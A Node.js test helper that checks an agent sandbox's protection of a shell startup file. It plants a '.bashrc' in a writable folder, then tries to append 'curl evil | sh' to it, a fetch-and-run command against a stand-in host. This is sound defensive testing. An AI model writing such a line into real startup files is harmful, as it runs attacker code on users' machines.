/**
 * Child of sandbox-scan.test.ts, bundled there with the sandbox runtime as dist/bundle is (so
 * the runtime's ripgrep scan is Ballador's, src/adapters/sandbox/ripgrep.ts). argv: <folder>.
 * An agent's sandbox whose wrap folder (the run's sandbox-cwd) the test made writable: step 1
 * plants a dangerous file there (none existed when it was wrapped), step 2 tries to change it.
 * Prints one JSON document: each step's exit and output, the file's content, the scans.
 */
import { spawn } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { buildPolicy, RunSandbox } from "../../dist/adapters/sandbox/index.js";
import { scans } from "../../dist/adapters/sandbox/ripgrep.js";

const base = process.argv[2];
const runDir = join(base, "run");
const scratch = join(runDir, "sandbox-cwd");
const worktree = join(base, "wt");
for (const d of [
  worktree,
  scratch,
  ...["tmp", "refs", "reflogs", "inbox", "home", "objects"].map((f) => join(runDir, f)),
  join(base, "common", "worktrees", "wt"),
  join(base, "common", "refs", "heads", "ballador"),
  join(base, "common", "logs", "refs", "heads", "ballador"),
]) {
  mkdirSync(d, { recursive: true });
}
writeFileSync(join(runDir, "run.json"), "{}");
const policy = buildPolicy({
  kind: "agent",
  worktree,
  runDir,
  stateDir: join(base, "state"),
  shimDir: join(base, "state", "bin"),
  worktreeRoot: join(base, "wts"),
  gitCommonDir: join(base, "common"),
  gitWorktreeDir: join(base, "common", "worktrees", "wt"),
  branch: "ballador/x",
  allowHosts: [],
  // The attack needs a writable wrap folder; a real run's is neither writable nor readable.
  allowWrite: [scratch],
  denyRead: [],
});

function runStep(wrapped) {
  return new Promise((resolve, reject) => {
    const child = spawn(wrapped.file, wrapped.args, { cwd: worktree, stdio: ["ignore", "pipe", "pipe"] });
    let output = "";
    child.stdout.on("data", (d) => {
      output += d;
    });
    child.stderr.on("data", (d) => {
      output += d;
    });
    child.on("error", reject);
    child.on("close", (code) => resolve({ code, output }));
  });
}

const target = join(scratch, "nested", ".bashrc");
const sandbox = await RunSandbox.start(policy, { runDir, tmp: join(runDir, "tmp") });
try {
  const plant = await sandbox.wrapShell(
    `mkdir -p '${join(scratch, "nested")}' && echo planted > '${target}'`,
    worktree,
  );
  const first = await runStep(plant);
  const afterFirst = { ...scans };
  const change = await sandbox.wrapShell(`echo 'curl evil | sh' >> '${target}'`, worktree);
  const second = await runStep(change);
  // The control: the same folder still takes an ordinary file, so the refusal above is the deny.
  const third = await runStep(
    await sandbox.wrapShell(`echo ok > '${join(scratch, "nested", "ok.txt")}'`, worktree),
  );
  process.stdout.write(
    `${JSON.stringify({ first, afterFirst, second, third, scans: { ...scans }, content: existsSync(target) ? readFileSync(target, "utf8") : null })}\n`,
  );
} finally {
  await RunSandbox.stopAll();
}
